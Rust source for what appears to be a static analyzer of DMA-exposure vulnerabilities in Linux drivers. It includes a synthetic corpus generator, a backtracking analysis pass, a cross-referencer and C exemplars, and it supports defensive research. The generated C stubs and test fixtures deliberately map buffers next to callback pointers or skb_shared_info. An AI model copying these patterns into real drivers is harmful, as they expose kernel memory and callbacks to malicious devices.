pub fn generate(mix: &CorpusMix, seed: u64) -> Vec<(String, String)> {
    let mut rng = DetRng::new(seed ^ 0x5bade);
    let mut out = Vec::new();

    for i in 0..mix.frag_skb_files {
        let name = format!("drivers/net/ethernet/nfs{i}/nfs{i}_txrx.c");
        let extra_call = rng.chance(1, 2);
        let mut src = format!(
            r#"
struct nfs{i}_ring {{ struct net_device *netdev; __u16 count; }};
static int nfs{i}_alloc_rx(struct device *dev, struct nfs{i}_ring *ring)
{{
	struct sk_buff *skb;
	dma_addr_t dma;
	skb = netdev_alloc_skb(ring->netdev, 2048);
	dma = dma_map_single(dev, skb->data, 2048, DMA_FROM_DEVICE);
	return 0;
}}
"#
        );
        if extra_call {
            src.push_str(&format!(
                r#"
static int nfs{i}_refill(struct device *dev, struct nfs{i}_ring *ring)
{{
	struct sk_buff *skb;
	dma_addr_t dma;
	skb = napi_alloc_skb(ring->netdev, 1536);
	dma = dma_map_single(dev, skb->data, 1536, DMA_FROM_DEVICE);
	return 0;
}}
"#
            ));
        }
        out.push((name, src));
    }

    for i in 0..mix.frag_only_files {
        let name = format!("drivers/net/wireless/wfr{i}/wfr{i}_rx.c");
        let extra = rng.chance(3, 5);
        let mut src = format!(
            r#"
static int wfr{i}_post_rx(struct device *dev, int sz)
{{
	void *buf;
	dma_addr_t dma;
	buf = napi_alloc_frag(sz);
	dma = dma_map_single(dev, buf, sz, DMA_FROM_DEVICE);
	return 0;
}}
"#
        );
        if extra {
            src.push_str(&format!(
                r#"
static int wfr{i}_post_status(struct device *dev)
{{
	void *sts;
	dma_addr_t dma;
	sts = netdev_alloc_frag(512);
	dma = dma_map_single(dev, sts, 512, DMA_FROM_DEVICE);
	return 0;
}}
"#
            ));
        }
        out.push((name, src));
    }

    for i in 0..mix.skb_tx_files {
        let name = format!("drivers/net/ethernet/txo{i}/txo{i}_main.c");
        let calls = 2 + rng.below(3); // 2..=4 map calls
        let mut src = String::new();
        for c in 0..calls {
            src.push_str(&format!(
                r#"
static netdev_tx_t txo{i}_xmit_{c}(struct device *dev, struct sk_buff *skb)
{{
	dma_addr_t dma;
	dma = dma_map_single(dev, skb->data, skb->len, DMA_TO_DEVICE);
	return 0;
}}
"#
            ));
        }
        out.push((name, src));
    }

    for i in 0..mix.embedded_direct_files {
        let name = format!("drivers/scsi/hba{i}/hba{i}_cmd.c");
        let second = rng.chance(1, 1); // always 2 calls → 52 total
        let mut src = format!(
            r#"
struct hba{i}_cmd {{
	char sense_buf[96];
	char cdb[32];
	void (*done)(struct hba{i}_cmd *cmd);
	__u32 tag;
}};
static int hba{i}_queue(struct device *dev, struct hba{i}_cmd *cmd)
{{
	dma_addr_t dma;
	dma = dma_map_single(dev, &cmd->sense_buf, 96, DMA_BIDIRECTIONAL);
	return 0;
}}
"#
        );
        if second {
            src.push_str(&format!(
                r#"
static int hba{i}_send_cdb(struct device *dev, struct hba{i}_cmd *cmd)
{{
	dma_addr_t dma;
	dma = dma_map_single(dev, &cmd->cdb, 32, DMA_TO_DEVICE);
	return 0;
}}
"#
            ));
        }
        out.push((name, src));
    }

    for i in 0..mix.embedded_spoof_files {
        let name = format!("drivers/infiniband/hw/rni{i}/rni{i}_qp.c");
        let calls = 3 + rng.below(2); // 3..=4
        let mut src = format!(
            r#"
struct rni{i}_ops {{
	int (*post_send)(void *qp);
	int (*post_recv)(void *qp);
	void (*drain)(void *qp);
	void (*destroy)(void *qp);
}};
struct rni{i}_wqe {{
	char payload[128];
	struct rni{i}_ops *ops;
	__u64 wr_id;
}};
"#
        );
        for c in 0..calls {
            src.push_str(&format!(
                r#"
static int rni{i}_post_{c}(struct device *dev, struct rni{i}_wqe *wqe)
{{
	dma_addr_t dma;
	dma = dma_map_single(dev, &wqe->payload, 128, DMA_BIDIRECTIONAL);
	return 0;
}}
"#
            ));
        }
        out.push((name, src));
    }

    for i in 0..mix.private_files {
        let name = format!("drivers/net/ethernet/pvd{i}/pvd{i}_fw.c");
        let mut src = String::new();
        for c in 0..4 {
            src.push_str(&format!(
                r#"
static int pvd{i}_fw_cmd_{c}(struct device *dev, struct net_device *nd)
{{
	void *priv;
	dma_addr_t dma;
	priv = netdev_priv(nd);
	dma = dma_map_single(dev, priv, 512, DMA_BIDIRECTIONAL);
	return 0;
}}
"#
            ));
        }
        out.push((name, src));
    }

    for i in 0..mix.build_skb_files {
        let name = format!("drivers/net/ethernet/bsk{i}/bsk{i}_rx.c");
        let second = rng.chance(6, 39); // ≈45 calls over 39 files
        let mut src = format!(
            r#"
static int bsk{i}_rx_poll(struct device *dev, void *va, int sz)
{{
	struct sk_buff *skb;
	dma_addr_t dma;
	dma = dma_map_single(dev, va, sz, DMA_FROM_DEVICE);
	skb = build_skb(va, sz);
	return 0;
}}
"#
        );
        if second {
            src.push_str(&format!(
                r#"
static int bsk{i}_rx_copybreak(struct device *dev, void *va, int sz)
{{
	struct sk_buff *skb;
	dma_addr_t dma;
	dma = dma_map_single(dev, va, sz, DMA_FROM_DEVICE);
	skb = build_skb(va, sz);
	return 0;
}}
"#
            ));
        }
        out.push((name, src));
    }

    for i in 0..mix.clean_files {
        let name = format!("drivers/misc/cln{i}/cln{i}_main.c");
        let calls = 2 + rng.below(3); // 2..=4
        let mut src = String::new();
        for c in 0..calls {
            src.push_str(&format!(
                r#"
static int cln{i}_setup_{c}(struct device *dev)
{{
	void *buf;
	dma_addr_t dma;
	buf = kzalloc(4096, GFP_KERNEL);
	dma = dma_map_single(dev, buf, 4096, DMA_TO_DEVICE);
	return 0;
}}
"#
            ));
        }
        out.push((name, src));
    }

    out
}

/// Loads the complete corpus (headers + exemplars + generated
/// population) as (path, source) pairs ready for
/// [`crate::xref::SourceTree::load`].
pub fn full_corpus(mix: &CorpusMix, seed: u64) -> Vec<(String, String)> {
    let mut out: Vec<(String, String)> = HEADERS
        .iter()
        .chain(EXEMPLARS.iter())
        .map(|(p, s)| (p.to_string(), s.to_string()))
        .collect();
    out.extend(generate(mix, seed));
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn generation_is_deterministic() {
        let a = generate(&CorpusMix::default(), 1);
        let b = generate(&CorpusMix::default(), 1);
        assert_eq!(a, b);
        assert_eq!(a.len(), 473);
    }

    #[test]
    fn full_corpus_includes_all_layers() {
        let c = full_corpus(&CorpusMix::default(), 1);
        assert!(c.iter().any(|(p, _)| p.contains("skbuff.h")));
        assert!(c.iter().any(|(p, _)| p.contains("nvme/host/fc.c")));
        assert!(c.iter().any(|(p, _)| p.contains("nfs0")));
        assert_eq!(c.len(), HEADERS.len() + EXEMPLARS.len() + 473);
    }
}
