//! The SPADE analysis pass (§4.1.1).
//!
//! "SPADE operates recursively starting from calls to the dma_map*
//! functions. From this initial set of calls, SPADE identifies the
//! mapped variables and backtracks their declarations and assignments.
//! When a data structure is identified as exposed, SPADE identifies the
//! exposed callback pointers or mapped heap pointers."
//!
//! Backtracking covers: address-of-member expressions (type (a)
//! embedded buffers), `skb->data` and `build_skb` (type (b)
//! `skb_shared_info` exposure), page_frag-family allocators (type (c)),
//! `netdev_priv`-style private-data APIs, local stack buffers, and
//! caller-argument tracing when the mapped pointer is a function
//! parameter.

use crate::parse::{calls_in_stmt, CType, Expr, FuncDef, Stmt};
use crate::xref::{CallSite, SourceTree};

/// DMA-mapping entry points and the argument index of the mapped
/// pointer.
pub const DMA_MAP_FNS: &[(&str, usize)] = &[
    ("dma_map_single", 1),
    ("pci_map_single", 1),
    ("dma_map_page", 1),
    ("dma_map_sg", 1),
];

/// Allocators that carve sub-page fragments from shared pages
/// (type (c) producers; "used 344 times by network drivers", §5.2.2).
pub const PAGE_FRAG_FNS: &[&str] = &[
    "netdev_alloc_skb",
    "napi_alloc_skb",
    "netdev_alloc_frag",
    "napi_alloc_frag",
    "page_frag_alloc",
    "__netdev_alloc_skb",
];

/// APIs that return private data regions co-located with driver/OS
/// metadata on one allocation.
pub const PRIVATE_DATA_FNS: &[&str] = &["netdev_priv", "aead_request_ctx", "scsi_cmd_priv"];

/// Where a mapped pointer was found to come from.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum MappedOrigin {
    /// `&x->field`: the buffer is embedded in a larger struct — the
    /// classic type (a).
    EmbeddedInStruct {
        /// The containing struct.
        struct_name: String,
        /// The embedded buffer field.
        field: String,
    },
    /// `skb->data` (or a pointer assigned from it): the page carries
    /// `skb_shared_info` (type (b)).
    SkbData,
    /// A buffer passed through `build_skb` in the same function: the
    /// shared info was *placed into* the mapped buffer (type (b)).
    BuildSkb,
    /// A page_frag-family allocation (type (c)).
    PageFrag {
        /// The allocator used.
        api: String,
    },
    /// A private-data API return (`netdev_priv`, ...).
    PrivateData {
        /// The API used.
        api: String,
    },
    /// Plain kmalloc/kzalloc buffer (statically clean; random
    /// co-location is D-KASAN's department).
    Kmalloc,
    /// A local (stack) array was mapped.
    StackBuffer,
    /// A whole `struct page` (dma_map_page).
    PageArg,
    /// The trail went cold.
    Unknown,
}

/// One analyzed dma_map call site.
#[derive(Clone, Debug)]
pub struct Finding {
    /// Source path.
    pub file: String,
    /// Call line.
    pub line: u32,
    /// Enclosing function.
    pub caller: String,
    /// The map function called.
    pub map_fn: String,
    /// Resolved origin of the mapped pointer.
    pub origin: MappedOrigin,
    /// Callback pointers directly on the exposed page (embedded
    /// function-pointer fields of the exposed struct).
    pub direct_callbacks: usize,
    /// Callback pointers spoofable through exposed struct pointers.
    pub spoofable_callbacks: usize,
    /// Heap (data) pointers on the exposed structure — kernel-address
    /// leaks ("exposed callback pointers or mapped heap pointers",
    /// §4.1.1).
    pub heap_pointers: usize,
    /// `skb_shared_info` ends up on the mapped page.
    pub shinfo_mapped: bool,
    /// The enclosing function (or origin) uses `build_skb`.
    pub uses_build_skb: bool,
    /// The call site is exposed to type (c) page sharing.
    pub type_c: bool,
    /// Backtrace lines (Figure-2 style, innermost first).
    pub trace: Vec<String>,
}

impl Finding {
    /// "Callbacks exposed" in the Table-2 sense: the device can reach a
    /// callback pointer, directly or by spoofing.
    pub fn callbacks_exposed(&self) -> bool {
        self.direct_callbacks > 0 || self.spoofable_callbacks > 0
    }
}

/// Runs SPADE over a loaded source tree: one [`Finding`] per dma_map
/// call site.
///
/// # Examples
///
/// ```
/// use spade::{analyze, SourceTree};
///
/// let driver = r#"
///     struct op { char buf[64]; void (*done)(void); };
///     int probe(struct device *dev, struct op *op) {
///         dma_map_single(dev, &op->buf, 64, DMA_BIDIRECTIONAL);
///         return 0;
///     }
/// "#;
/// let tree = SourceTree::load([("drv.c", driver)]);
/// let findings = analyze(&tree);
/// assert_eq!(findings.len(), 1);
/// assert_eq!(findings[0].direct_callbacks, 1); // `done` is exposed
/// ```
pub fn analyze(tree: &SourceTree) -> Vec<Finding> {
    let mut findings = Vec::new();
    for &(map_fn, arg_idx) in DMA_MAP_FNS {
        for site in tree.callers_of(map_fn) {
            findings.push(analyze_site(tree, site, map_fn, arg_idx));
        }
    }
    findings.sort_by_key(|a| (a.file.clone(), a.line));
    findings
}

fn analyze_site(tree: &SourceTree, site: &CallSite, map_fn: &str, arg_idx: usize) -> Finding {
    let file = tree.files[site.file].path.clone();
    let mut trace = vec![format!(
        "{}:{}: {}() called in {}()",
        file, site.line, map_fn, site.caller
    )];
    let mut finding = Finding {
        file: file.clone(),
        line: site.line,
        caller: site.caller.clone(),
        map_fn: map_fn.to_string(),
        origin: MappedOrigin::Unknown,
        direct_callbacks: 0,
        spoofable_callbacks: 0,
        heap_pointers: 0,
        shinfo_mapped: false,
        uses_build_skb: false,
        type_c: false,
        trace: Vec::new(),
    };

    let Some((_, func)) = tree.func(&site.caller) else {
        finding.trace = trace;
        return finding;
    };
    let origin = match site.args.get(arg_idx) {
        Some(expr) => resolve_origin(tree, func, expr, 3, &mut trace),
        None => MappedOrigin::Unknown,
    };

    // Function-wide context: build_skb / page_frag usage.
    let fn_calls = function_call_names(func);
    finding.uses_build_skb = fn_calls.iter().any(|n| n == "build_skb");
    let fn_uses_frag = fn_calls.iter().any(|n| PAGE_FRAG_FNS.contains(&n.as_str()));

    match &origin {
        MappedOrigin::EmbeddedInStruct { struct_name, .. } => {
            finding.direct_callbacks = tree.types.direct_callbacks(struct_name);
            finding.spoofable_callbacks = tree.types.spoofable_callbacks(struct_name, 6);
            finding.heap_pointers = tree.types.heap_pointers(struct_name);
            trace.push(format!(
                "struct {} exposed: {} callback pointer(s) mapped, {} spoofable, {} heap pointer(s) leaked",
                struct_name, finding.direct_callbacks, finding.spoofable_callbacks, finding.heap_pointers
            ));
        }
        MappedOrigin::SkbData | MappedOrigin::BuildSkb => {
            finding.shinfo_mapped = true;
            finding.spoofable_callbacks = finding
                .spoofable_callbacks
                .max(tree.types.spoofable_callbacks("skb_shared_info", 6));
            finding.direct_callbacks += tree.types.direct_callbacks("skb_shared_info");
            trace.push(
                "skb_shared_info resides on the mapped page (destructor_arg spoofable)".into(),
            );
        }
        MappedOrigin::PageFrag { api } => {
            finding.type_c = true;
            // page_frag buffers carry skbs in network drivers; their
            // shared info is on the page when the skb APIs are used.
            if api.contains("skb") {
                finding.shinfo_mapped = true;
                finding.spoofable_callbacks = finding
                    .spoofable_callbacks
                    .max(tree.types.spoofable_callbacks("skb_shared_info", 6));
            }
            trace.push(format!(
                "buffer carved by {api}() — page shared with other mappings"
            ));
        }
        MappedOrigin::PrivateData { api } => {
            trace.push(format!("private data region from {api}() mapped"));
            // Private regions co-locate with the owning object's
            // metadata; census the canonical container if known.
            let container = match api.as_str() {
                "netdev_priv" => Some("net_device"),
                "aead_request_ctx" => Some("aead_request"),
                "scsi_cmd_priv" => Some("scsi_cmnd"),
                _ => None,
            };
            if let Some(c) = container {
                finding.direct_callbacks = tree.types.direct_callbacks(c);
                finding.spoofable_callbacks = tree.types.spoofable_callbacks(c, 6);
            }
        }
        MappedOrigin::StackBuffer => {
            trace.push("local stack buffer mapped — kernel stack exposed to device".into());
        }
        MappedOrigin::Kmalloc | MappedOrigin::PageArg | MappedOrigin::Unknown => {}
    }
    if fn_uses_frag && !finding.type_c {
        finding.type_c = true;
        trace.push("enclosing function allocates from page_frag (type (c) sharing)".into());
    }
    if finding.uses_build_skb && !finding.shinfo_mapped {
        finding.shinfo_mapped = true;
        finding.spoofable_callbacks = finding
            .spoofable_callbacks
            .max(tree.types.spoofable_callbacks("skb_shared_info", 6));
        trace.push("build_skb() embeds skb_shared_info into the mapped buffer".into());
    }
    finding.origin = origin;
    finding.trace = trace;
    finding
}

fn function_call_names(func: &FuncDef) -> Vec<String> {
    func.body
        .iter()
        .flat_map(calls_in_stmt)
        .filter_map(|c| match c {
            Expr::Call { name, .. } => Some(name.clone()),
            _ => None,
        })
        .collect()
}

/// Backtracks a mapped expression to its origin.
fn resolve_origin(
    tree: &SourceTree,
    func: &FuncDef,
    expr: &Expr,
    depth: usize,
    trace: &mut Vec<String>,
) -> MappedOrigin {
    match expr {
        // &x->field / &x.field: embedded buffer.
        Expr::AddrOf(inner) => {
            if let Expr::Member { base, field, .. } = &**inner {
                if let Some(ty) = tree.type_of_expr(func, base) {
                    if let Some(sname) = ty.base_name() {
                        trace.push(format!(
                            "mapped expression &{}->{} — buffer embedded in struct {}",
                            expr_name(base),
                            field,
                            sname
                        ));
                        return MappedOrigin::EmbeddedInStruct {
                            struct_name: sname.to_string(),
                            field: field.clone(),
                        };
                    }
                }
            }
            resolve_origin(tree, func, inner, depth, trace)
        }
        // x->data on an sk_buff.
        Expr::Member { base, field, .. } => {
            if field == "data" {
                if let Some(ty) = tree.type_of_expr(func, base) {
                    if ty.base_name() == Some("sk_buff") {
                        trace.push(format!(
                            "mapped expression {}->data (sk_buff)",
                            expr_name(base)
                        ));
                        return MappedOrigin::SkbData;
                    }
                }
                // Heuristic: `x->data` on ring/buffer-info structs is the
                // skb data pointer stashed by the driver.
                trace.push(format!("mapped expression {}->data", expr_name(base)));
                return MappedOrigin::SkbData;
            }
            MappedOrigin::Unknown
        }
        Expr::Call { name, .. } => classify_producer(name, trace),
        Expr::Ident(name) => {
            // Walk the function for the producing declaration/assignment.
            for stmt in func.body.iter().rev() {
                match stmt {
                    Stmt::Decl {
                        name: n,
                        ty,
                        init,
                        line,
                    } if n == name => {
                        if let CType::Array(_, sz) = ty {
                            trace.push(format!(
                                "{}: '{}[{}]' is a local stack buffer",
                                line, name, sz
                            ));
                            return MappedOrigin::StackBuffer;
                        }
                        if let Some(rhs) = init {
                            trace.push(format!("{line}: '{name}' initialized here"));
                            return resolve_origin(tree, func, rhs, depth, trace);
                        }
                    }
                    Stmt::Assign {
                        lhs: Expr::Ident(n),
                        rhs,
                        line,
                    } if n == name => {
                        trace.push(format!("{line}: '{name}' assigned here"));
                        return resolve_origin(tree, func, rhs, depth, trace);
                    }
                    _ => {}
                }
            }
            // A parameter? Trace through callers.
            if let Some(pos) = func.params.iter().position(|p| &p.name == name) {
                if depth > 0 {
                    for caller_site in tree.callers_of(&func.name) {
                        if let Some(arg) = caller_site.args.get(pos) {
                            if let Some((_, caller_fn)) = tree.func(&caller_site.caller) {
                                trace.push(format!(
                                    "'{}' is parameter #{} of {}(); traced to caller {}() at {}:{}",
                                    name,
                                    pos,
                                    func.name,
                                    caller_site.caller,
                                    tree.files[caller_site.file].path,
                                    caller_site.line
                                ));
                                let o = resolve_origin(tree, caller_fn, arg, depth - 1, trace);
                                if o != MappedOrigin::Unknown {
                                    return o;
                                }
                            }
                        }
                    }
                }
            }
            MappedOrigin::Unknown
        }
        Expr::Deref(inner) | Expr::Index(inner) => resolve_origin(tree, func, inner, depth, trace),
        _ => MappedOrigin::Unknown,
    }
}

fn classify_producer(name: &str, trace: &mut Vec<String>) -> MappedOrigin {
    if PAGE_FRAG_FNS.contains(&name) {
        trace.push(format!("allocated by {name}()"));
        return MappedOrigin::PageFrag {
            api: name.to_string(),
        };
    }
    if PRIVATE_DATA_FNS.contains(&name) {
        trace.push(format!("obtained from {name}()"));
        return MappedOrigin::PrivateData {
            api: name.to_string(),
        };
    }
    match name {
        "build_skb" => {
            trace.push("buffer wrapped by build_skb()".into());
            MappedOrigin::BuildSkb
        }
        "kmalloc" | "kzalloc" | "kcalloc" | "kmalloc_array" => {
            trace.push(format!("allocated by {name}()"));
            MappedOrigin::Kmalloc
        }
        "alloc_page" | "alloc_pages" | "__get_free_pages" | "page_address" => {
            trace.push(format!("whole page(s) from {name}()"));
            MappedOrigin::PageArg
        }
        _ => MappedOrigin::Unknown,
    }
}

fn expr_name(e: &Expr) -> String {
    match e {
        Expr::Ident(n) => n.clone(),
        Expr::Member { base, field, arrow } => {
            format!(
                "{}{}{}",
                expr_name(base),
                if *arrow { "->" } else { "." },
                field
            )
        }
        Expr::Deref(i) => format!("*{}", expr_name(i)),
        Expr::AddrOf(i) => format!("&{}", expr_name(i)),
        Expr::Index(i) => format!("{}[]", expr_name(i)),
        _ => "<expr>".to_string(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const HDR: &str = r#"
        struct ubuf_info { void (*callback)(void); void *ctx; u64 desc; };
        struct skb_shared_info {
            u8 nr_frags;
            struct ubuf_info *destructor_arg;
        };
        struct sk_buff { unsigned char *data; unsigned int len; };
    "#;

    fn run(driver: &str) -> Vec<Finding> {
        let tree = SourceTree::load([("linux/skbuff.h", HDR), ("driver.c", driver)]);
        analyze(&tree)
    }

    #[test]
    fn embedded_struct_map_is_type_a_with_callbacks() {
        let fs = run(r#"
            struct fcp_op { char rsp_iu[96]; void (*done)(void); struct ubuf_info *extra; };
            int setup(struct device *dev, struct fcp_op *op) {
                op->dma = dma_map_single(dev, &op->rsp_iu, 96, DMA_BIDIRECTIONAL);
                return 0;
            }
        "#);
        assert_eq!(fs.len(), 1);
        let f = &fs[0];
        assert_eq!(
            f.origin,
            MappedOrigin::EmbeddedInStruct {
                struct_name: "fcp_op".into(),
                field: "rsp_iu".into()
            }
        );
        assert_eq!(f.direct_callbacks, 1);
        assert_eq!(f.spoofable_callbacks, 1); // via the ubuf_info pointer
        assert!(f.callbacks_exposed());
    }

    #[test]
    fn skb_data_map_flags_shinfo() {
        let fs = run(r#"
            int rx(struct device *dev, struct sk_buff *skb) {
                dma_addr_t dma;
                dma = dma_map_single(dev, skb->data, skb->len, DMA_FROM_DEVICE);
                return 0;
            }
        "#);
        assert_eq!(fs[0].origin, MappedOrigin::SkbData);
        assert!(fs[0].shinfo_mapped);
        assert!(fs[0].spoofable_callbacks >= 1, "destructor_arg spoofing");
    }

    #[test]
    fn netdev_alloc_skb_is_type_c_and_shinfo() {
        let fs = run(r#"
            int refill(struct device *dev, struct net_device *nd) {
                struct sk_buff *skb;
                skb = netdev_alloc_skb(nd, 2048);
                dma_map_single(dev, skb, 2048, DMA_FROM_DEVICE);
                return 0;
            }
        "#);
        assert!(fs[0].type_c);
    }

    #[test]
    fn build_skb_in_function_flags_type_b() {
        let fs = run(r#"
            int rx_build(struct device *dev, void *buf) {
                struct sk_buff *skb;
                dma_map_single(dev, buf, 2048, DMA_FROM_DEVICE);
                skb = build_skb(buf, 2048);
                return 0;
            }
        "#);
        assert!(fs[0].uses_build_skb);
        assert!(fs[0].shinfo_mapped);
    }

    #[test]
    fn stack_buffer_detected() {
        let fs = run(r#"
            int cmd(struct device *dev) {
                char req[64];
                dma_map_single(dev, req, 64, DMA_TO_DEVICE);
                return 0;
            }
        "#);
        assert_eq!(fs[0].origin, MappedOrigin::StackBuffer);
    }

    #[test]
    fn kmalloc_buffer_is_statically_clean() {
        let fs = run(r#"
            int setup(struct device *dev) {
                void *buf;
                buf = kzalloc(512, GFP_KERNEL);
                dma_map_single(dev, buf, 512, DMA_TO_DEVICE);
                return 0;
            }
        "#);
        assert_eq!(fs[0].origin, MappedOrigin::Kmalloc);
        assert!(!fs[0].callbacks_exposed());
        assert!(!fs[0].type_c);
    }

    #[test]
    fn parameter_traced_through_caller() {
        let fs = run(r#"
            struct big { char data[128]; void (*handler)(void); };
            static int do_map(struct device *dev, void *p, int len) {
                dma_map_single(dev, p, len, DMA_TO_DEVICE);
                return 0;
            }
            int top(struct device *dev, struct big *b) {
                do_map(dev, &b->data, 128);
                return 0;
            }
        "#);
        assert_eq!(fs.len(), 1);
        assert_eq!(
            fs[0].origin,
            MappedOrigin::EmbeddedInStruct {
                struct_name: "big".into(),
                field: "data".into()
            }
        );
        assert_eq!(fs[0].direct_callbacks, 1);
        assert!(fs[0].trace.iter().any(|t| t.contains("traced to caller")));
    }

    #[test]
    fn private_data_api_detected() {
        let fs = run(r#"
            struct net_device { void (*ndo_start_xmit)(void); };
            int map_priv(struct device *dev, struct net_device *nd) {
                void *priv;
                priv = netdev_priv(nd);
                dma_map_single(dev, priv, 256, DMA_BIDIRECTIONAL);
                return 0;
            }
        "#);
        assert_eq!(
            fs[0].origin,
            MappedOrigin::PrivateData {
                api: "netdev_priv".into()
            }
        );
        assert_eq!(fs[0].direct_callbacks, 1);
    }
}
