//! Source-tree cross referencing — the Cscope equivalent.
//!
//! Parses every file of a source tree into one queryable database:
//! merged type table, function definitions by name, and an index of
//! call sites by callee (SPADE backtracks mapped variables through
//! caller argument lists, exactly as the Perl original walked Cscope's
//! "functions calling this function" output).

use crate::layout::TypeTable;
use crate::parse::{calls_in_stmt, parse_file, CType, Expr, FuncDef, ParsedFile};
use std::collections::HashMap;

/// A call site located in the tree.
#[derive(Clone, Debug)]
pub struct CallSite {
    /// Index of the file in [`SourceTree::files`].
    pub file: usize,
    /// Name of the enclosing function.
    pub caller: String,
    /// Callee name.
    pub callee: String,
    /// Source line.
    pub line: u32,
    /// Argument expressions.
    pub args: Vec<Expr>,
}

/// The cross-referenced source tree.
#[derive(Debug, Default)]
pub struct SourceTree {
    /// Parsed files in load order.
    pub files: Vec<ParsedFile>,
    /// Merged struct/typedef registry.
    pub types: TypeTable,
    funcs: HashMap<String, (usize, usize)>,
    calls_by_callee: HashMap<String, Vec<CallSite>>,
}

impl SourceTree {
    /// Parses and indexes a set of (path, source) pairs.
    pub fn load<'a>(sources: impl IntoIterator<Item = (&'a str, &'a str)>) -> Self {
        let mut tree = SourceTree::default();
        let mut all_structs = Vec::new();
        let mut all_typedefs = HashMap::new();
        for (path, src) in sources {
            let parsed = parse_file(path, src);
            all_structs.extend(parsed.structs.clone());
            all_typedefs.extend(parsed.typedefs.clone());
            tree.files.push(parsed);
        }
        tree.types = TypeTable::new(&all_structs, &all_typedefs);
        for (fi, file) in tree.files.iter().enumerate() {
            for (gi, func) in file.funcs.iter().enumerate() {
                tree.funcs.entry(func.name.clone()).or_insert((fi, gi));
                for stmt in &func.body {
                    for call in calls_in_stmt(stmt) {
                        let Expr::Call { name, args, line } = call else {
                            continue;
                        };
                        tree.calls_by_callee
                            .entry(name.clone())
                            .or_default()
                            .push(CallSite {
                                file: fi,
                                caller: func.name.clone(),
                                callee: name.clone(),
                                line: *line,
                                args: args.clone(),
                            });
                    }
                }
            }
        }
        tree
    }

    /// Looks up a function definition by name.
    pub fn func(&self, name: &str) -> Option<(&ParsedFile, &FuncDef)> {
        let &(fi, gi) = self.funcs.get(name)?;
        Some((&self.files[fi], &self.files[fi].funcs[gi]))
    }

    /// All call sites invoking `callee`.
    pub fn callers_of(&self, callee: &str) -> &[CallSite] {
        self.calls_by_callee
            .get(callee)
            .map(|v| v.as_slice())
            .unwrap_or(&[])
    }

    /// All call sites whose callee name satisfies `pred`.
    pub fn call_sites(&self, mut pred: impl FnMut(&str) -> bool) -> Vec<&CallSite> {
        let mut out: Vec<&CallSite> = self
            .calls_by_callee
            .iter()
            .filter(|(name, _)| pred(name))
            .flat_map(|(_, sites)| sites.iter())
            .collect();
        out.sort_by_key(|a| (a.file, a.line));
        out
    }

    /// Resolves the static type of `expr` inside `func` (parameter or
    /// local declaration lookup, member resolution through the type
    /// table).
    pub fn type_of_expr(&self, func: &FuncDef, expr: &Expr) -> Option<CType> {
        match expr {
            Expr::Ident(name) => {
                for p in &func.params {
                    if &p.name == name {
                        return Some(p.ty.clone());
                    }
                }
                for stmt in &func.body {
                    if let crate::parse::Stmt::Decl { ty, name: n, .. } = stmt {
                        if n == name {
                            return Some(ty.clone());
                        }
                    }
                }
                None
            }
            Expr::Member { base, field, .. } => {
                let base_ty = self.type_of_expr(func, base)?;
                let sname = base_ty.base_name()?;
                self.types.field_type(sname, field).cloned()
            }
            Expr::AddrOf(inner) => Some(CType::Ptr(Box::new(self.type_of_expr(func, inner)?))),
            Expr::Deref(inner) | Expr::Index(inner) => match self.type_of_expr(func, inner)? {
                CType::Ptr(t) | CType::Array(t, _) => Some(*t),
                _ => None,
            },
            _ => None,
        }
    }

    /// Total number of parsed files.
    pub fn file_count(&self) -> usize {
        self.files.len()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const A: &str = r#"
        struct wid { void (*cb)(void); int x; };
        void helper(struct wid *w, char *buf) {
            dma_map_single(0, buf, 64, 1);
        }
    "#;
    const B: &str = r#"
        void top(struct wid *w) {
            char scratch[64];
            helper(w, scratch);
            helper(w, w->x);
        }
    "#;

    #[test]
    fn load_indexes_functions_and_calls() {
        let tree = SourceTree::load([("a.c", A), ("b.c", B)]);
        assert_eq!(tree.file_count(), 2);
        assert!(tree.func("helper").is_some());
        assert_eq!(tree.callers_of("helper").len(), 2);
        assert_eq!(tree.callers_of("dma_map_single").len(), 1);
        assert_eq!(tree.callers_of("dma_map_single")[0].caller, "helper");
    }

    #[test]
    fn call_sites_filter_by_name() {
        let tree = SourceTree::load([("a.c", A), ("b.c", B)]);
        let maps = tree.call_sites(|n| n.starts_with("dma_map"));
        assert_eq!(maps.len(), 1);
        assert_eq!(maps[0].callee, "dma_map_single");
    }

    #[test]
    fn type_resolution_for_params_locals_members() {
        let tree = SourceTree::load([("a.c", A), ("b.c", B)]);
        let (_, helper) = tree.func("helper").unwrap();
        let buf = Expr::Ident("buf".into());
        assert_eq!(
            tree.type_of_expr(helper, &buf),
            Some(CType::Ptr(Box::new(CType::Named("char".into()))))
        );
        let member = Expr::Member {
            base: Box::new(Expr::Ident("w".into())),
            field: "cb".into(),
            arrow: true,
        };
        assert_eq!(tree.type_of_expr(helper, &member), Some(CType::FnPtr));
        let (_, top) = tree.func("top").unwrap();
        let scratch = Expr::Ident("scratch".into());
        assert!(matches!(
            tree.type_of_expr(top, &scratch),
            Some(CType::Array(_, 64))
        ));
    }

    #[test]
    fn merged_type_table_spans_files() {
        let tree = SourceTree::load([("a.c", A), ("b.c", B)]);
        assert_eq!(tree.types.direct_callbacks("wid"), 1);
    }
}
