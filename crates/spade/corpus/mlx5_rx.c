/* Modeled on drivers/net/ethernet/mellanox/mlx5/core/en_rx.c: the RX
 * completion path wraps the raw page_frag buffer with build_skb(),
 * embedding skb_shared_info into the DMA-mapped region (§9.1). */

struct mlx5e_rq {
	struct net_device *netdev;
	void *wqe;
	__u32 frag_sz;
};

static int mlx5e_alloc_rx_wqe(struct device *dev, struct mlx5e_rq *rq)
{
	void *buf;
	dma_addr_t dma;
	buf = napi_alloc_frag(rq->frag_sz);
	dma = dma_map_single(dev, buf, rq->frag_sz, DMA_FROM_DEVICE);
	return 0;
}

static struct sk_buff *mlx5e_build_rx_skb(struct device *dev, struct mlx5e_rq *rq, void *va)
{
	struct sk_buff *skb;
	skb = build_skb(va, rq->frag_sz);
	return skb;
}

static int mlx5e_poll_rx_cq(struct device *dev, struct mlx5e_rq *rq, void *va)
{
	struct sk_buff *skb;
	dma_addr_t dma;
	dma = dma_map_single(dev, va, rq->frag_sz, DMA_FROM_DEVICE);
	skb = build_skb(va, rq->frag_sz);
	return 0;
}
