/* Modeled on the bnx2x HW-LRO configuration (§5.3): 64 KiB RX buffers
 * from kmalloc, mapped whole. Each buffer spans 16 pages, and the
 * skb_shared_info at its tail rides along — type (b) at LRO scale. */

